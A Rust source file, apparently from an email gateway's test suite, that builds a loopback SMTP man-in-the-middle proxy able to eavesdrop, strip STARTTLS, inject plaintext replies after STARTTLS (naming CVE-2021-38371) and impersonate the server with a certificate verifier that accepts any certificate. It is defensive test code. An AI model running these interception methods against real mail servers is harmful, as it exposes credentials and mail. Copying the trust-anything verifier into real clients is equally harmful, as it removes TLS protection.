//! Attackers on the path between the gateway and a receiving server: real proxies.

use std::{
    net::{Ipv4Addr, SocketAddr},
    sync::{Arc, RwLock},
};

use anyhow::Result;
use rustls::{
    ClientConfig, DigitallySignedStruct, SignatureScheme,
    client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier},
    crypto::{CryptoProvider, aws_lc_rs},
};
use rustls_pki_types::{CertificateDer, ServerName, UnixTime};
use tokio::{
    io::{AsyncBufReadExt, AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt, BufStream},
    net::{TcpListener, TcpStream},
    sync::watch,
    task::JoinSet,
};
use tokio_rustls::{TlsAcceptor, TlsConnector};

use crate::{ca::Identity, sink::Transcript};

/// What the machine on the path does.
#[derive(Clone)]
pub enum Method {
    /// Nothing, and it does not look either.
    Absent,
    /// Records all bytes and changes none.
    Eavesdrop,
    /// Takes STARTTLS out of the EHLO reply, refuses the command, reads what follows.
    StripStartTls,
    /// Appends plaintext replies after the 220 to STARTTLS (CVE-2021-38371 and its kin).
    InjectAfterStartTls,
    /// Answers STARTTLS itself with this identity, speaks TLS with the real server too, and reads
    /// what passes between the two.
    Impersonate(Identity),
}

/// A running attacker. Dropping it cuts the path.
pub struct Attacker {
    address: SocketAddr,
    transcript: Transcript,
    method: Arc<RwLock<Method>>,
    generation: watch::Sender<u64>,
    _task: JoinSet<()>,
}

impl Attacker {
    /// Listens on 127.0.0.1 in front of the server at `victim`.
    ///
    /// # Errors
    /// No socket on loopback can be had.
    pub async fn start(victim: SocketAddr, method: Method) -> Result<Self> {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await?;
        let address = listener.local_addr()?;
        let transcript = Transcript::default();
        let method = Arc::new(RwLock::new(method));
        let (generation, changes) = watch::channel(0);
        let mut task = JoinSet::new();
        let position = Position { victim, method: Arc::clone(&method), changes };
        task.spawn(position.serve(listener, transcript.clone()));
        Ok(Self { address, transcript, method, generation, _task: task })
    }

    /// Where it listens.
    pub const fn addr(&self) -> SocketAddr {
        self.address
    }

    /// What it could read of what clients said.
    pub const fn transcript(&self) -> &Transcript {
        &self.transcript
    }

    /// Does this from now on. Connections that are open are cut, so that none from before the
    /// attack can be used again.
    pub fn begin(&self, method: Method) {
        if let Ok(mut current) = self.method.write() {
            *current = method;
        }
        self.generation.send_modify(|number| *number += 1);
    }
}

struct Position {
    victim: SocketAddr,
    method: Arc<RwLock<Method>>,
    changes: watch::Receiver<u64>,
}

impl Position {
    async fn serve(self, listener: TcpListener, transcript: Transcript) {
        let mut sessions = JoinSet::new();
        loop {
            let Ok((client, _)) = listener.accept().await else { continue };
            let Ok(method) = self.method.read().map(|method| method.clone()) else { continue };
            let ear = Ear { transcript: transcript.clone(), session: transcript.open() };
            let (victim, mut changes) = (self.victim, self.changes.clone());
            changes.mark_unchanged();
            sessions.spawn(async move {
                tokio::select! {
                    _ended = attack(client, victim, method, ear) => {}
                    _changed = changes.changed() => {}
                }
            });
            while sessions.try_join_next().is_some() {}
        }
    }
}

/// One connection's place in the transcript.
struct Ear {
    transcript: Transcript,
    session: usize,
}

impl Ear {
    fn hear(&self, bytes: &[u8]) {
        self.transcript.record(self.session, bytes);
    }
}

async fn attack(client: TcpStream, victim: SocketAddr, method: Method, ear: Ear) -> Result<()> {
    let server = TcpStream::connect(victim).await?;
    client.set_nodelay(true)?;
    server.set_nodelay(true)?;
    if matches!(method, Method::Absent) {
        let (mut client, mut server) = (client, server);
        tokio::io::copy_bidirectional(&mut client, &mut server).await?;
        return Ok(());
    }
    let (mut client, mut server) = (BufStream::new(client), BufStream::new(server));
    match until_starttls(&mut client, &mut server, &method, &ear).await? {
        Then::Over => Ok(()),
        Then::Encrypted => {
            let (client, server) = (client.into_inner(), server.into_inner());
            match method {
                Method::Impersonate(identity) => {
                    let connector = TlsConnector::from(Arc::new(trusting()?));
                    let name = ServerName::IpAddress(Ipv4Addr::LOCALHOST.into());
                    let client = TlsAcceptor::from(identity.config).accept(client).await?;
                    let server = connector.connect(name, server).await?;
                    listen_between(client, server, &ear).await
                }
                Method::Absent
                | Method::Eavesdrop
                | Method::StripStartTls
                | Method::InjectAfterStartTls => listen_between(client, server, &ear).await,
            }
        }
    }
}

/// How the plaintext part of a session ended.
enum Then {
    /// One side left.
    Over,
    /// The server said 220 to STARTTLS.
    Encrypted,
}

/// Passes lines on in both directions.
async fn until_starttls(
    client: &mut BufStream<TcpStream>,
    server: &mut BufStream<TcpStream>,
    method: &Method,
    ear: &Ear,
) -> Result<Then> {
    let (mut from_client, mut from_server) = (Vec::new(), Vec::new());
    let mut asked = Asked::No;
    loop {
        // `read_until` keeps what it has read in the buffer when the other side is faster.
        tokio::select! {
            read = client.read_until(b'\n', &mut from_client) => {
                if read? == 0 {
                    return Ok(Then::Over);
                }
                let line = std::mem::take(&mut from_client);
                ear.hear(&line);
                let starttls = line.trim_ascii().eq_ignore_ascii_case(b"STARTTLS");
                if starttls && matches!(method, Method::StripStartTls) {
                    client.write_all(b"502 5.5.1 command not implemented\r\n").await?;
                    client.flush().await?;
                    continue;
                }
                if starttls {
                    asked = Asked::Yes;
                }
                server.write_all(&line).await?;
                server.flush().await?;
            }
            read = server.read_until(b'\n', &mut from_server) => {
                if read? == 0 {
                    return Ok(Then::Over);
                }
                let mut line = std::mem::take(&mut from_server);
                let ready = asked == Asked::Yes && line.starts_with(b"220");
                asked = Asked::No;
                if matches!(method, Method::StripStartTls) {
                    line = without_starttls(line);
                }
                if ready && matches!(method, Method::InjectAfterStartTls) {
                    line.extend(b"250-mx.attacker.example\r\n250 AUTH PLAIN LOGIN\r\n");
                }
                client.write_all(&line).await?;
                client.flush().await?;
                if ready {
                    return Ok(Then::Encrypted);
                }
            }
        }
    }
}

/// Whether STARTTLS waits for its reply.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Asked {
    No,
    Yes,
}

/// A line of the EHLO reply with the keyword overwritten, as known middleboxes do, so that the
/// last line stays the last one.
fn without_starttls(line: Vec<u8>) -> Vec<u8> {
    let keyword = line.get(4..).unwrap_or_default().trim_ascii();
    if !line.starts_with(b"250") || !keyword.eq_ignore_ascii_case(b"STARTTLS") {
        return line;
    }
    [line.get(..4).unwrap_or_default(), b"XXXXXXXA\r\n"].concat()
}

/// Passes bytes on and hears what the client says.
async fn listen_between<C, S>(client: C, server: S, ear: &Ear) -> Result<()>
where
    C: AsyncRead + AsyncWrite,
    S: AsyncRead + AsyncWrite,
{
    let (mut from_client, mut to_client) = tokio::io::split(client);
    let (mut from_server, mut to_server) = tokio::io::split(server);
    let up = async {
        let mut buffer = vec![0; 16_384];
        loop {
            let len = from_client.read(&mut buffer).await?;
            let bytes = buffer.get(..len).unwrap_or_default();
            if bytes.is_empty() {
                return anyhow::Ok(());
            }
            ear.hear(bytes);
            to_server.write_all(bytes).await?;
            to_server.flush().await?;
        }
    };
    let down = async {
        tokio::io::copy(&mut from_server, &mut to_client).await?;
        anyhow::Ok(())
    };
    tokio::select! {
        ended = up => ended,
        ended = down => ended,
    }
}

/// An attacker does not care who the real server is.
#[derive(Debug)]
struct TrustAnybody(CryptoProvider);

fn trusting() -> Result<ClientConfig> {
    let provider = aws_lc_rs::default_provider();
    Ok(ClientConfig::builder_with_provider(Arc::new(provider.clone()))
        .with_safe_default_protocol_versions()?
        .dangerous()
        .with_custom_certificate_verifier(Arc::new(TrustAnybody(provider)))
        .with_no_client_auth())
}

/// A client configuration that takes any certificate: for the attacker's second leg, and for tests
/// that play a careless client.
///
/// # Errors
/// The cryptographic library refuses.
pub fn careless_client() -> Result<ClientConfig> {
    trusting()
}

impl ServerCertVerifier for TrustAnybody {
    fn verify_server_cert(
        &self,
        _end_entity: &CertificateDer<'_>,
        _intermediates: &[CertificateDer<'_>],
        _server_name: &ServerName<'_>,
        _ocsp_response: &[u8],
        _now: UnixTime,
    ) -> Result<ServerCertVerified, rustls::Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        message: &[u8],
        cert: &CertificateDer<'_>,
        dss: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        let algorithms = &self.0.signature_verification_algorithms;
        rustls::crypto::verify_tls12_signature(message, cert, dss, algorithms)
    }

    fn verify_tls13_signature(
        &self,
        message: &[u8],
        cert: &CertificateDer<'_>,
        dss: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        let algorithms = &self.0.signature_verification_algorithms;
        rustls::crypto::verify_tls13_signature(message, cert, dss, algorithms)
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        self.0.signature_verification_algorithms.supported_schemes()
    }
}
